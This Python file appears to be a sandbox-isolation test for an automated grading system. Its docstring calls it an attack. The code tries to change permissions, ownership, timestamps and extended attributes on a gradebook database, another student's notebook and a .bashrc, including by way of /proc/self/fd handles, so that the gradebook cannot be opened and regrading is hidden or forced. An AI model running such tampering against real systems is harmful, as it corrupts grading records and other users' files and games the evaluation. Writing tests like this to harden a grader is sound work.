"""Attack: chmod, chown, utime and extended attributes of files outside.
Wants: a gradebook that nobody can open; times that hide or cause a regrading.
Honest mark: 22
"""

# %% own
import os

for path in (
    "CANARY/gradebook.db",
    "CANARY",
    "CANARY/submitted/other/conv2d/1_convolve2d.ipynb",
    "CANARY/home/.bashrc",
):
    handle = None
    try:
        handle = os.open(path, os.O_PATH)
    except OSError:
        pass
    for attempt in (
        lambda: os.chmod(path, 0),
        lambda: os.chown(path, 12345, 12345),
        lambda: os.utime(path, (0, 0)),
        lambda: os.setxattr(path, "user.x", b"1"),
        lambda: os.lchown(path, 1, 1),
        lambda: os.chmod(f"/proc/self/fd/{handle}", 0),
        lambda: os.utime(f"/proc/self/fd/{handle}", (0, 0)),
        lambda: os.utime(handle, (0, 0)),
        lambda: os.chown(handle, 1, 1),
    ):
        try:
            attempt()
        except (OSError, TypeError):
            pass
